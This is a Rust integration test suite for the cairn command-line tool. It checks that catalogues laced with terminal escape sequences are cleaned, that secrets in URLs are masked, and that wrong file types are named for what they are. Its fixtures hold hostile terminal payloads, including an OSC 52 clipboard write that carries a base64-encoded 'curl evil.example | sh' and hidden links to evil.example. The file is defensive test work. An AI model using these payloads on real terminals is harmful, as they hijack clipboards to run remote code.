//! Hostile and wrong input, end to end with the real binary: a catalogue
//! full of terminal escape sequences, direction overrides and invisible
//! characters (JSON and CSV, as a file, with `--catalogue`, and synced)
//! never gets a control byte to the terminal and `catalogue validate`
//! names every field it cleaned; a lesson pack with a byte-order mark
//! imports; the Markdown form of a pack and a web page served as a
//! catalogue or pack are named for what they are; passwords and tokens in
//! source addresses are never printed; `cairn import` keeps the configured
//! time limits.

#[allow(dead_code)]
mod common;
#[allow(dead_code)]
#[path = "common/server.rs"]
mod server;

use std::fs;

use common::{Dir, Outcome};
use serde_json::{Value, json};
use server::{Reply, Server};

// ---------------------------------------------------------------------------
// What must never reach a terminal

/// A character a terminal acts on, or that makes text look like other
/// text: C0 and C1 controls but tab and line feed (ESC, BEL, the 8-bit
/// CSI U+009B and OSC U+009D among them), DEL, direction controls, and
/// zero-width and invisible characters. U+FFFD stands for bytes that were
/// not UTF-8, such as a lone 0x9B or 0x9D, which some terminals read as
/// CSI or OSC.
fn unsafe_for_terminal(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(
            c,
            '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2060}'..='\u{2064}'
                | '\u{61c}'
                | '\u{ad}'
                | '\u{180e}'
                | '\u{feff}'
                | '\u{fffd}'
        )
}

#[track_caller]
fn assert_safe(out: &Outcome) {
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let found: Vec<char> = text.chars().filter(|&c| unsafe_for_terminal(c)).collect();
        assert!(found.is_empty(), "{name} holds {found:?}\n{out}");
        for needle in [
            "evil.example",
            "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA",
            "pwned",
            "[2J",
        ] {
            assert!(!text.contains(needle), "{name} holds {needle:?}\n{out}");
        }
    }
}

// ---------------------------------------------------------------------------
// A hostile catalogue

/// OSC 52 (clipboard), OSC 0 (title), OSC 8 (hidden link), CSI 2J (clear
/// the screen) with 7-bit and 8-bit introducers, a direction override and
/// zero-width characters, spread over known and unknown fields.
fn hostile_records() -> Vec<Value> {
    vec![
        json!({
            "id": "hostile-one",
            "name": "Quokka\u{1b}]0;pwned title\u{7} Circle",
            "summary": "Copy this: \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}quokka notes",
            "description": "Clears \u{1b}[2J\u{1b}[H the screen and \u{9b}31m reddens",
            "url": "https://example.org/quokka",
            "join": "Visit \u{1b}]8;;https://evil.example/\u{1b}\\the site\u{1b}]8;;\u{1b}\\ today",
            "contact": "ad\u{200b}min@example.org",
            "regions": ["AU"],
            "topics": ["design"],
            "aliases": "Quokka \u{202e}elcriC",
            "keywords": "quo\u{200d}kka",
            "colour": "\u{9d}8;;https://evil.example/\u{9c}teal",
            "sources": ["https://example.org/quokka/about"],
        }),
        json!({
            "id": "hostile-two",
            "name": "Second \u{2066}Quokka\u{2069} Group",
            "summary": "Plain quokka text, \u{feff}mostly.",
            "sources": ["https://example.org/quokka/two"],
        }),
    ]
}

fn hostile_json() -> Vec<u8> {
    serde_json::to_vec_pretty(&json!({
        "schema": "cairn.catalogue/1",
        "networks": hostile_records(),
    }))
    .unwrap()
}

/// The same records as a spreadsheet would hold them.
fn hostile_csv() -> Vec<u8> {
    let columns = [
        "id",
        "name",
        "summary",
        "description",
        "url",
        "join",
        "contact",
        "regions",
        "topics",
        "aliases",
        "keywords",
        "colour",
        "sources",
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(columns).unwrap();
    for record in hostile_records() {
        let row: Vec<String> = columns
            .iter()
            .map(|c| match &record[*c] {
                Value::String(s) => s.clone(),
                Value::Array(items) => items
                    .iter()
                    .map(|i| i.as_str().unwrap().to_string())
                    .collect::<Vec<_>>()
                    .join(";"),
                _ => String::new(),
            })
            .collect();
        writer.write_record(&row).unwrap();
    }
    writer.into_inner().unwrap()
}

/// What `catalogue validate` must say about the hostile catalogue.
#[track_caller]
fn assert_validate_names_the_fields(out: &Outcome) {
    for said in [
        "record 1 (hostile-one), field `name`: removed 1 terminal escape sequence:",
        "record 1 (hostile-one), field `summary`: removed 1 terminal escape sequence:",
        "record 1 (hostile-one), field `description`: removed 3 terminal escape sequences:",
        "record 1 (hostile-one), field `join`: removed 2 terminal escape sequences:",
        "record 1 (hostile-one), field `contact`: removed 1 invisible character:",
        "record 1 (hostile-one), field `aliases`: removed 1 text-direction control:",
        "record 1 (hostile-one), field `keywords`: removed 1 invisible character:",
        "record 1 (hostile-one), field `colour`: removed 1 terminal escape sequence:",
        "record 2 (hostile-two), field `name`: removed 2 text-direction controls:",
        "record 2 (hostile-two), field `summary`: removed 1 invisible character:",
    ] {
        out.stdout_has(said);
    }
    out.stdout_has(": 2 networks load;");
}

#[test]
fn validate_reports_every_cleaned_field_and_still_loads_the_records() {
    let dir = Dir::new();
    for (name, bytes) in [
        ("hostile.json", hostile_json()),
        ("hostile.csv", hostile_csv()),
    ] {
        dir.create(name, bytes);
        let out = dir.cairn(&["catalogue", "validate", name]).assert_fails();
        assert_safe(&out);
        assert_validate_names_the_fields(&out);
        let out = dir
            .cairn(&["catalogue", "validate", name, "--json"])
            .assert_fails();
        assert_safe(&out);
        let doc = out.json();
        assert_eq!(doc["networks"], 2, "{out}");
        assert!(
            doc["problems"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["field"] == "join" && p["record"] == 1 && p["severity"] == "error"),
            "{out}"
        );
    }
}

/// `search` and `show`, as text and JSON, over whatever catalogue the
/// arguments before them choose; the cleaned text is there.
fn browse(dir: &Dir, before: &[&str]) {
    let run = |args: &[&str]| {
        let all: Vec<&str> = before.iter().chain(args).copied().collect();
        let out = dir.cairn(&all).assert_ok();
        assert_safe(&out);
        out
    };
    run(&["search", "quokka"])
        .stdout_has("Quokka Circle")
        .stdout_has("Second Quokka Group");
    run(&["search", "quokka", "--json"]);
    run(&["show", "hostile-one"])
        .stdout_has("Copy this: quokka notes")
        .stdout_has("Visit the site today")
        .stdout_has("admin@example.org")
        .stdout_has("Quokka elcriC")
        .stdout_has("teal");
    let shown = run(&["show", "hostile-one", "--json"]).json();
    assert_eq!(shown["name"], "Quokka Circle");
    // Known list fields now: a single text is read as a one-item list.
    assert_eq!(shown["keywords"], json!(["quokka"]));
    assert_eq!(shown["aliases"], json!(["Quokka elcriC"]));
    run(&["show", "hostile-two"]);
}

#[test]
fn search_and_show_over_a_hostile_catalogue_file_print_only_clean_text() {
    let dir = Dir::new();
    dir.create("hostile.json", hostile_json());
    dir.create("hostile.csv", hostile_csv());
    browse(&dir, &["--catalogue", "hostile.json"]);
    browse(&dir, &["--catalogue", "hostile.csv"]);
}

#[test]
fn a_synced_hostile_catalogue_is_reported_and_browsed_clean() {
    for (name, bytes) in [
        ("hostile.json", hostile_json()),
        ("hostile.csv", hostile_csv()),
    ] {
        let dir = Dir::new();
        let path = dir.create(name, bytes);
        assert_safe(
            &dir.cairn(&["sources", "add", "hostile", path.to_str().unwrap()])
                .assert_ok(),
        );
        let out = dir.cairn(&["sync"]).assert_ok();
        assert_safe(&out);
        out.stdout_has("hostile: 2 added")
            .stdout_has("record 1 (hostile-one), field `summary`: removed 1 terminal escape");
        assert_safe(&dir.cairn(&["sync", "--json"]).assert_ok());
        assert_safe(&dir.cairn(&["sources", "list"]).assert_ok());
        browse(&dir, &[]);
    }
}

#[test]
fn a_copy_an_older_cairn_saved_uncleaned_is_cleaned_when_read_back() {
    let dir = Dir::new();
    let path = dir.create(
        "plain.json",
        br#"{"schema": "cairn.catalogue/1", "networks": [{"id": "plain-one", "name": "Plain", "summary": "Plain text."}]}"#,
    );
    dir.cairn(&["sources", "add", "hostile", path.to_str().unwrap()])
        .assert_ok();
    dir.cairn(&["sync"]).assert_ok();
    // What an older cairn kept: the records as they came, escapes and all.
    let folder = dir.path().join("data/sources/hostile");
    let copy = std::fs::read_dir(&folder)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("catalogue-")
        })
        .expect("a copy was saved");
    std::fs::write(
        &copy,
        serde_json::to_vec(&json!({"schema": "cairn.catalogue/1", "networks": hostile_records()}))
            .unwrap(),
    )
    .unwrap();
    std::fs::remove_dir_all(dir.path().join("cache")).unwrap();
    browse(&dir, &[]);
}

// ---------------------------------------------------------------------------
// Wrong files

/// A valid pack for ukgovcamp with one lesson.
fn pack(id: &str) -> String {
    json!({
        "schema": "cairn.lessons/1",
        "network": "ukgovcamp",
        "exported": "2026-03-04T10:00:00Z",
        "lessons": [{
            "id": id, "kind": "lesson", "title": "Ask early", "body": "It worked.",
            "tags": ["approval"], "created": "2026-03-02T09:00:00Z",
            "updated": "2026-03-02T09:00:00Z", "language": "en",
            "licence": "CC-BY-4.0", "hash": "0"
        }]
    })
    .to_string()
}

#[test]
fn a_pack_with_a_byte_order_mark_imports() {
    let dir = Dir::new();
    let path = dir.create("bom.json", format!("\u{feff}{}", pack("bom-1")));
    dir.cairn(&["import", path.to_str().unwrap()])
        .assert_ok()
        .stderr_has("1 new");
    dir.cairn(&["lessons", "show", "bom-1"])
        .assert_ok()
        .stdout_has("Ask early");
}

#[test]
fn the_markdown_form_of_a_pack_is_named_and_the_json_beside_it_suggested() {
    let dir = Dir::new();
    let exported = time::macros::datetime!(2026-03-04 10:00 UTC);
    let markdown = cairn::model::LessonPack::new("ukgovcamp", exported, &Default::default())
        .to_markdown("UKGovCamp");
    for (name, text) in [
        ("shared/ukgovcamp-20260304.md", markdown.clone()),
        ("shared/bom.MD", format!("\u{feff}\n{markdown}")),
    ] {
        let path = dir.create(name, text);
        let out = dir
            .cairn(&["import", path.to_str().unwrap()])
            .assert_fails();
        out.stderr_has("is the Markdown form of a lesson pack")
            .stderr_has("import the .json file saved beside it");
        assert!(!out.stderr.contains("not valid JSON"), "{out}");
    }
    dir.cairn(&["import", "shared/ukgovcamp-20260304.md"])
        .assert_fails()
        .stderr_has("(shared/ukgovcamp-20260304.json)");
}

#[test]
fn a_web_page_is_named_as_one_wherever_a_catalogue_or_pack_is_expected() {
    let page =
        "\n<!DOCTYPE html>\n<html><head><title>Networks</title></head><body>Hi</body></html>";
    let served = page.to_string();
    let server = Server::start(move |r| {
        let kind = if r.path.starts_with("/lying") {
            "text/csv"
        } else {
            "text/html; charset=utf-8"
        };
        Reply::ok(served.clone()).header("Content-Type", kind)
    });
    let dir = Dir::new();
    for (name, path) in [("web", "/networks"), ("lying", "/lying/networks.csv")] {
        dir.cairn(&["sources", "add", name, &server.url(path)])
            .assert_ok();
        let out = dir.cairn(&["sync", name]).assert_fails();
        let said = format!("{}{}", out.stdout, out.stderr);
        assert!(
            said.contains("returned a web page (HTML), not a catalogue")
                && said.contains("the address is probably wrong"),
            "{out}"
        );
        assert!(!said.contains("not valid CSV"), "{out}");
    }
    dir.create("page.html", page);
    dir.create("page.csv", page);
    for file in ["page.html", "page.csv"] {
        dir.cairn(&["catalogue", "validate", file])
            .assert_fails()
            .stdout_has(&format!("{file} is a web page (HTML), not a catalogue"));
    }
    dir.create("page.json", page);
    dir.cairn(&["import", "page.json"])
        .assert_fails()
        .stderr_has("is a web page (HTML), not a lesson pack");
}

// ---------------------------------------------------------------------------
// Secrets in addresses

#[test]
fn passwords_and_tokens_in_a_source_address_are_masked_wherever_it_is_shown() {
    let server = Server::start(|_| Reply::status(404));
    let secret = server
        .url("/c.json?page=2&access_token=abc123&Signature=zzz999")
        .replace("http://", "http://me:hunter2@");
    let masked = server
        .url("/c.json?page=2&access_token=***&Signature=***")
        .replace("http://", "http://me:***@");
    let dir = Dir::new();
    let assert_hidden = |out: &Outcome| {
        for s in ["hunter2", "abc123", "zzz999"] {
            assert!(
                !out.stdout.contains(s) && !out.stderr.contains(s),
                "{s} shown\n{out}"
            );
        }
    };
    let out = dir
        .cairn(&["sources", "add", "private", &secret])
        .assert_ok();
    assert_hidden(&out);
    out.stderr_has(&masked);
    let listed = dir.cairn(&["sources", "list"]).assert_ok();
    assert_hidden(&listed);
    listed.stdout_has(&masked);
    let listed = dir.cairn(&["sources", "list", "--json"]).assert_ok();
    assert_hidden(&listed);
    listed.stdout_has(&format!("\"location\": \"{masked}\""));
    // The address itself is kept and used as it was given.
    let config = fs::read_to_string(dir.path().join("config/config.toml")).unwrap();
    assert!(config.contains(&secret), "{config}");
    let out = dir.cairn(&["sync"]).assert_fails();
    assert_hidden(&out);
    assert!(
        format!("{}{}", out.stdout, out.stderr).contains(&masked),
        "{out}"
    );
    assert_hidden(&dir.cairn(&["sync", "--json"]).assert_fails());
    assert_hidden(&dir.cairn(&["sources", "list"]).assert_ok());
    assert_hidden(&dir.cairn(&["doctor"]).run());
    let sent = server.requests();
    assert!(
        sent.iter().any(|r| r.path.contains("access_token=abc123")),
        "{sent:?}"
    );
}

// ---------------------------------------------------------------------------
// Time limits

#[test]
fn import_from_an_address_keeps_the_configured_time_limit() {
    let server = Server::start(|_| Reply::Silence);
    let dir = Dir::new();
    dir.create("config/config.toml", "[sync]\ntimeout_secs = 1\n");
    dir.cairn(&["import", &server.url("/lessons.json")])
        .assert_fails()
        .stderr_has("the download did not finish within 1 s");
}

#[test]
fn a_long_text_pasted_as_a_search_is_answered_in_one_short_line() {
    let dir = Dir::new();
    let pasted = format!("{} design", "quokka ".repeat(700));
    let out = dir.cairn(&["search", &pasted]).run();
    out.stderr_has("only its first 32 words were searched");
    assert!(
        out.stderr.lines().all(|l| l.chars().count() < 200),
        "{}",
        out.stderr
    );
}
